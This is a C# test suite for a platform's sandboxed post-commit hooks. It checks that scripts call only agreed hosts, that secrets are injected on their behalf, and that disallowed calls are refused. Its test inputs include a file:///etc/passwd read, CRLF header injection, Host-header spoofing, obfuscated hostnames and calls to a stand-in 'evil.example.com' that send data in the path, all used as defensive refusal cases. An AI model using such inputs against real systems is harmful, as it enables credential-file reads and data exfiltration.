using System.Collections.Concurrent;
using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Platform.Runtime.Tests.Demo;
using Platform.Testing;
using Xunit;
using static Platform.Runtime.Tests.Hooks.HookedHost;

namespace Platform.Runtime.Tests.Hooks;

/// <summary>Calls of other systems by hooks after commit: to hosts that were agreed to, with secrets that the script never holds.</summary>
public sealed class HookHttpTests(TestHost host) : IClassFixture<TestHost>, IAsyncLifetime
{
    private readonly Receiver _receiver = new();
    private HookedHost _world = null!;

    private string Receiving => $"127.0.0.1:{_receiver.Port}";

    public async ValueTask InitializeAsync()
    {
        _world = await HookedHost.OpenAsync(host);
        Succeeded(await _world.AskAsync("/metadata", "mutation { setSecret(name: \"token\", value: \"s3cret-valuE\") { generated } }"));
    }

    public ValueTask DisposeAsync()
    {
        _world.Dispose();
        _receiver.Dispose();
        return ValueTask.CompletedTask;
    }

    [Fact]
    public async Task A_secret_stands_in_the_call_and_in_nothing_that_the_script_has()
    {
        await PublishAsync(
            "calls",
            $$"""
            const token = secrets.get('token');
            const response = await http.post('http://{{Receiving}}/echo?k=' + token, { title: r.title, token }, { headers: { Authorization: `Bearer ${token}`, 'X-Key': key } });
            const signature = await secrets.hmacSha256('token', 'text');
            log.info(token, response.body);
            await db.create('Trace', { title: `calls ${response.status} ${response.ok} ${response.json().title} ${JSON.stringify([token, response.body, response.headers]).includes('s3cret')} ${response.headers['x-echo'] === `Bearer ${token}`} ${signature}` });
            """);
        await _world.CreateDealAsync("calls one");
        string expected = Convert.ToHexStringLower(HMACSHA256.HashData("s3cret-valuE"u8, "text"u8));
        Assert.Equal([$"calls 200 true calls one false true {expected}"], await _world.TracesAsync("calls", 1));
        (string path, string authorization, string body) = Assert.Single(_receiver.Calls);
        Assert.Equal(("/echo?k=s3cret-valuE", "Bearer s3cret-valuE", """{"title":"calls one","token":"s3cret-valuE"}"""), (path, authorization, body));
        await _world.RemoveAsync("calls");
    }

    [Fact]
    public async Task The_sales_app_tells_the_erp_of_contracts_that_come_into_force()
    {
        string source = await File.ReadAllTextAsync(Path.Combine(SalesApp.Directory(), "hooks", "contractRegistration.ts"), TestContext.Current.CancellationToken);
        foreach (string name in (string[])["erpToken", "erpSignature"]) Succeeded(await _world.AskAsync("/metadata", "mutation($n: String!, $v: String!) { setSecret(name: $n, value: $v) { generated } }", new { n = name, v = name + " value" }));
        await _world.PublishAsync(
            """
            {"kind":"object","name":"Contract","label":"Contract","pluralLabel":"Contracts","nameField":"name","fields":[{"name":"name","label":"Name","type":"text"},{"name":"status","label":"Status","type":"text"},
             {"name":"contractNumber","label":"Number","type":"text"},{"name":"amount","label":"Amount","type":"decimal"},{"name":"signedOn","label":"Signed","type":"date"},{"name":"startDate","label":"From","type":"date"},{"name":"endDate","label":"To","type":"date"}]}
            """);
        await _world.PublishAsync(
            $$"""
            {"kind":"hook","name":"registration","label":"Registration","object":"Contract","on":["afterCommitInsert","afterCommitUpdate"],"source":"r.ts","hosts":["{{Receiving}}"],"secrets":["erpToken","erpSignature"],
             "modules":[{"path":"r.ts","source":{{JsonSerializer.Serialize(source.Replace("https://erp.example.com", $"http://{Receiving}", StringComparison.Ordinal))}}}]}
            """,
            "SCRIPT_RIGHTS");
        JsonElement made = Succeeded(await _world.AskAsync("/graphql", """mutation { createContract(input: { name: "Supply", status: "draft", contractNumber: "C-1", amount: "5" }) { record { id } } }"""));
        string id = made.GetProperty("createContract").GetProperty("record").GetProperty("id").GetString()!;
        Succeeded(await _world.AskAsync("/graphql", "mutation($id: ID!) { updateContract(id: $id, input: { status: \"active\" }) { record { id } } }", new { id }));
        await Eventually.HoldsAsync(() => !_receiver.Calls.IsEmpty, "the ERP was told");
        (string path, string authorization, string body) = Assert.Single(_receiver.Calls);
        Assert.Equal(("/contracts", "Bearer erpToken value"), (path, authorization));
        Assert.Equal($$"""{"contracts":[{"id":"{{id}}","contractNumber":"C-1","name":"Supply","amount":5}]}""", body);
    }

    [Theory]
    [InlineData("own", "await http.get('http://10.255.255.1:9/')", "OUTBOUND_ADDRESS_REFUSED")]
    [InlineData("other", "await http.get('https://' + ['exam', 'ple.com'].join(''))", "FORBIDDEN")]
    [InlineData("redirected", "await http.get('http://RECEIVER/away')", "FORBIDDEN")]
    [InlineData("written", "await db.create('Trace', { title: 'x' }); await http.get('http://RECEIVER/')", "HOOK_HTTP_AFTER_WRITE")]
    [InlineData("scheme", "await http.get('file' + ':///etc/passwd')", "BAD_USER_INPUT")]
    [InlineData("method", "await http.request('http://RECEIVER/', { method: 'TRACE' })", "BAD_USER_INPUT")]
    [InlineData("header", "await http.get('http://RECEIVER/', { headers: { 'X-A': 'a\\r\\nb: c' } })", "BAD_USER_INPUT")]
    [InlineData("host", "await http.get('http://RECEIVER/', { headers: { Host: 'example.com' } })", "BAD_USER_INPUT")]
    [InlineData("slow", "await http.get('http://RECEIVER/slow', { timeoutMs: 200 })", "OUTBOUND_TIMED_OUT")]
    [InlineData("unset", "await http.get('http://RECEIVER/', { headers: { A: secrets.get('unset') } })", "HOOK_SECRET_MISSING")]
    public async Task What_http_does_not_do_is_refused_with_a_code(string name, string statement, string code)
    {
        await PublishAsync(name, $"let said = 'ok'; try {{ {statement.Replace("RECEIVER", Receiving, StringComparison.Ordinal)}; }} catch (error) {{ said = error.code; }} if (said === 'HOOK_HTTP_AFTER_WRITE' || said !== 'ok') await db.create('Trace', {{ title: `{name}: ${{said}}` }});");
        await _world.CreateDealAsync($"{name} x");
        Assert.Equal([$"{name}: {code}"], await _world.TracesAsync(name + ":", 1));
        await _world.RemoveAsync(name);
    }

    [Fact]
    public async Task A_host_that_is_no_longer_agreed_to_is_not_called()
    {
        await PublishAsync("revoked", $"let said = 'ok'; try {{ await http.get('http://{Receiving}/'); }} catch (error) {{ said = error.code; }} await db.create('Trace', {{ title: `revoked: ${{said}}` }});");
        Succeeded(await _world.AskAsync("/metadata", "mutation($r: String!) { revokeScriptRight(name: \"revoked\", right: $r) }", new { r = $"host {Receiving}" }));
        await _world.CreateDealAsync("revoked x");
        Assert.Equal(["revoked: HOOK_NOT_GRANTED"], await _world.TracesAsync("revoked:", 1));
        Assert.Empty(_receiver.Calls);
        await _world.RemoveAsync("revoked");
    }

    [Theory]
    [InlineData("await http.get('https://evil.example.com/x')", "calls the host")]
    [InlineData("await http.get(`https://evil.example.com/${records.length}`)", "calls the host")]
    [InlineData("secrets.get('nobodys')", "uses the secret")]
    public async Task What_the_source_names_and_the_document_does_not_is_found_when_it_is_published(string statement, string said)
    {
        string document = $$"""{"kind":"hook","name":"found","label":"Found","object":"Deal","on":["afterCommitInsert"],"source":"f.js","modules":[{"path":"f.js","source":"export default async ({ http, secrets, records }) => { {{statement}}; };"}]}""";
        string answer = (await _world.TryPublishAsync(document)).ToString();
        Assert.Contains("DOC522", answer, StringComparison.Ordinal);
        Assert.Contains(said, answer, StringComparison.Ordinal);
    }

    private Task PublishAsync(string name, string body) => _world.HookAsync(
        name, ["afterCommitInsert"], $"const [r] = records; if (!r.title.startsWith('{name} ')) return; {body}", $$""","hosts":["{{Receiving}}","10.255.255.1:9"],"secrets":["token","unset"]""", "SCRIPT_RIGHTS");

    private sealed class Receiver : IDisposable
    {
        private readonly HttpListener _listener;

        public Receiver()
        {
            // A port that is free now; nobody else looks for this one in the moment between.
            using (TcpListener probe = new(IPAddress.Loopback, 0))
            {
                probe.Start();
                Port = ((IPEndPoint)probe.LocalEndpoint).Port;
            }

            _listener = new HttpListener { Prefixes = { $"http://127.0.0.1:{Port}/" } };
            _listener.Start();
            _ = AnswerAsync();
        }

        public int Port { get; }

        public ConcurrentQueue<(string Path, string Authorization, string Body)> Calls { get; } = new();

        public void Dispose() => _listener.Close();

        private async Task AnswerAsync()
        {
            while (_listener.IsListening)
            {
                try
                {
                    HttpListenerContext call = await _listener.GetContextAsync();
                    using StreamReader reader = new(call.Request.InputStream);
                    string body = await reader.ReadToEndAsync(), path = call.Request.RawUrl!, authorization = call.Request.Headers["Authorization"] ?? "";
                    Calls.Enqueue((path, authorization, body));
                    // What nobody waits for any more is never answered.
                    if (path == "/slow") continue;
                    if (path == "/away") call.Response.Redirect("http://127.0.0.2:9/");
                    call.Response.Headers["X-Echo"] = authorization;
                    await call.Response.OutputStream.WriteAsync(Encoding.UTF8.GetBytes(body));
                    call.Response.Close();
                }
                catch (Exception ended) when (ended is HttpListenerException or ObjectDisposedException)
                {
                    // The caller is gone, or the test is over.
                }
            }
        }
    }
}
